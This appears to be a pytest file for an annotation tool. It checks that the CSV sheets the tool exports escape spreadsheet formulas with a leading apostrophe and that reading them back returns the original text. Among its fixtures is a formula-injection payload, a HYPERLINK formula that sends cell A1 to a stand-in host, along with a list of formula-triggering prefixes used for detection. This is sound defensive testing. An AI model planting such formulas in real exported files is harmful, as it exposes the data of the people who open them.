"""No cell of a file for people is run by their spreadsheet, whoever wrote it; reading gives it back."""

from __future__ import annotations

import csv
import json
from collections.abc import Callable, Sequence
from pathlib import Path
from types import SimpleNamespace

import annotation
import pytest
from chat_server import Call, ChatServer

from evenrank.queryset import Procedure, read_sheets

Evenrank = Callable[..., SimpleNamespace]
FORMULAS = ("=", "+", "-", "@", "\t", "\r", "\n")  # what a spreadsheet runs
LINK = '=HYPERLINK("http://example.org/?"&A1, "more")'
TEXTS = {
    "=1": LINK,
    "-2": "-2 degrees",
    "+3": "+49 30",
    "@4": "@user",
    "5": "'tis",
    "6": "''x",
    "'7": "plain",
}

DETAILS = {"domain-0": "1", "reason": LINK}


@pytest.fixture(autouse=True)
def folder(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    monkeypatch.chdir(tmp_path)
    rows = [json.dumps({"query": query, "text": text}) for query, text in TEXTS.items()]
    Path("log.jsonl").write_text("\n".join(rows), encoding="utf-8")
    return tmp_path


def assert_harmless(*paths: str | Path) -> None:
    """An apostrophe before what a spreadsheet would run, and nothing else, is what we put there."""
    cells = 0
    for path in paths:
        with Path(path).open(encoding="utf-8", newline="") as file:
            for row in csv.reader(file):
                cells += len(row)
                assert not [cell for cell in row if cell.startswith(FORMULAS)], path
    assert cells > 10


def fill(evenrank: Evenrank, files: Sequence[str | Path], folder: str, *answers: dict[str, str]) -> None:
    """Write sheets of these files into a folder, and give each annotator's answers on the page."""
    assert evenrank("queryset", "sheets", *files, "-o", folder).code == 0
    assert_harmless(*Path(folder).glob("*.csv"))
    with annotation.visited(Path(folder)) as client:
        for address in client.addresses.values():
            for fields in answers * len(TEXTS):
                assert annotation.answer(client, address, **fields).status_code == 200
    assert_harmless(*Path(folder).glob("*.csv"))


def test_candidates_sheets_answers_and_the_query_set(evenrank: Evenrank) -> None:
    assert evenrank("queryset", "suggest", "log.jsonl", "--sample", "7", "-o", "candidates.csv").code == 0
    fill(evenrank, ["candidates.csv"], "workers", {"answer": "n"})
    fill(evenrank, sorted(Path("workers").glob("*.csv")), "experts", *[{"answer": "yes"}] * 2, DETAILS)
    paths = sorted(map(str, (*Path("workers").glob("*.csv"), *Path("experts").glob("*.csv"))))
    votes = read_sheets(paths, Procedure())
    assert (dict(votes.texts), votes.problems) == (TEXTS, ())
    assert votes.opinions["=1"]["expert1"].reason == LINK
    assert evenrank("queryset", "collect", *paths, "--queries", "candidates.csv", "-o", "set.csv").code == 0
    assert_harmless("candidates.csv", "set.csv")
    with Path("set.csv").open(encoding="utf-8", newline="") as file:
        assert {row["reason"] for row in csv.DictReader(file)} == {f"'{LINK} | {LINK}"}
    # a command that reads the set has the queries as they were
    assert evenrank("queryset", "sheets", "set.csv", "-o", "again").code == 0
    again = read_sheets(sorted(map(str, Path("again").glob("*.csv"))), Procedure())
    assert dict(again.texts) == TEXTS


def test_the_sheet_of_a_model(evenrank: Evenrank, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("EVENRANK_MODEL_KEY", "hunter2")
    said = {"non_gendered": "yes", "problematic": "yes", "domains": ["Education"], "reason": LINK}

    def scripted(call: Call, number: int) -> Callable[[Call], None]:
        return lambda one: one.say('{"label": "n"}' if "label" in call.prompt else json.dumps(said))

    with ChatServer(scripted).running() as server:
        Path("gender.toml").write_text(
            f'workers = 1\n[model]\nurl = "{server.url}"\nname = "m1"\nkey = "EVENRANK_MODEL_KEY"\n'
            "rate = 100000.0\n"
        )
        rows = [["a", query, text, "n"] for query, text in TEXTS.items()]
        with Path("worker.csv").open("w", newline="") as file:
            csv.writer(file).writerows([["annotator", "query", "text", "label"], *rows])
        done = evenrank("queryset", "ask", "worker.csv", "--procedure", "gender.toml", "-o", "model.csv")
    assert done.code == 0, done.err
    assert_harmless("model.csv")
    votes = read_sheets(["model.csv"], Procedure(workers=1))
    assert {own["model:m1"].reason for own in votes.opinions.values()} == {LINK}


def test_sheets_that_others_wrote_are_read_as_they_are() -> None:
    """With formulas and with apostrophes, in columns whose names are formulas too."""
    procedure = Procedure(questions=("=fair", "good"), texts=("fair?", "good?"))
    head = "annotator,query,text,=fair,good,domains,reason"
    Path("sheet.csv").write_text(f"{head}\na,=1,'tis,no,,,\na,2,=x,no,,,\n", encoding="utf-8")
    votes = read_sheets(["sheet.csv"], procedure)
    assert dict(votes.texts) == {"=1": "'tis", "2": "=x"}
    assert set(votes.opinions) == {"=1", "2"}
